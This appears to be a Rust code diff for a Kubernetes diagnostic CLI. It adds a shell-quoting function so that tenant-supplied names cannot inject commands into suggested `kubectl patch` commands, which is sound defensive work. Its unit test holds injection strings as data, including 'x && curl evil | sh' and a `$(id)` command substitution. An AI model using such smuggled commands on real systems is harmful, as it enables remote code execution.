@@ -177,15 +177,12 @@ pub(super) fn add_to_template_commands(context: &Context, names: &[String]) -> V
         )];
     };
     let Some((kind, name)) = restartable(context, &owner) else { return Vec::new() };
-    let patch: Vec<String> = names
+    let patch: Vec<serde_json::Value> = names
         .iter()
-        .map(|n| {
-            format!(
-                "{{\"op\":\"add\",\"path\":\"/spec/template/spec/imagePullSecrets/-\",\"value\":{{\"name\":\"{n}\"}}}}"
-            )
-        })
+        .map(|n| serde_json::json!({"op": "add", "path": "/spec/template/spec/imagePullSecrets/-", "value": {"name": n}}))
         .collect();
-    vec![format!("kubectl patch {kind} {name} -n {} --type=json -p '[{}]'", context.namespace, patch.join(","))]
+    let patch = shell_word(&serde_json::Value::from(patch).to_string());
+    vec![format!("kubectl patch {kind} {name} -n {} --type=json -p {patch}", context.namespace)]
 }
 
 /// `(kind, name)` of the Pod's controller.
@@ -201,6 +198,18 @@ fn restartable(context: &Context, owner: &(String, String)) -> Option<(String, S
         (Some((kind, name)), _) if kind == "Deployment" => Some(("deployment".to_owned(), name.clone())),
         (_, "StatefulSet" | "DaemonSet") => Some((owner.0.to_ascii_lowercase(), owner.1.clone())),
         _ => None,
+    }
+}
+
+/// `value` as one shell word: as it is when it holds nothing a shell reads, else single-quoted.
+/// Whatever a tenant wrote (a pull secret's name in a Pod, an image in an Event) is data in a
+/// suggested command, never more of the command.
+pub(super) fn shell_word(value: &str) -> String {
+    let plain = |c: char| c.is_ascii_alphanumeric() || "@%+=:,./_-".contains(c);
+    if !value.is_empty() && value.chars().all(plain) {
+        value.to_owned()
+    } else {
+        format!("'{}'", value.replace('\'', r"'\''"))
     }
 }
 
@@ -241,6 +250,15 @@ pub(super) fn copy_secret(from_namespace: &str, from: &str, to_namespace: &str, 
 mod tests {
     use super::*;
     use crate::cli::doctor::credentials::why_not_selected;
+
+    #[test]
+    fn a_value_in_a_command_is_one_shell_word() {
+        assert_eq!(shell_word("registry.k8s.io/pause:3.10"), "registry.k8s.io/pause:3.10");
+        assert_eq!(shell_word("x && curl evil | sh"), "'x && curl evil | sh'");
+        assert_eq!(shell_word("it's"), r"'it'\''s'");
+        assert_eq!(shell_word("$(id)`id`"), "'$(id)`id`'");
+        assert_eq!(shell_word(""), "''");
+    }
     use crate::cli::doctor::evidence::Admission;
     use crate::cli::doctor::fixture::{credential, own_list_evidence};
 
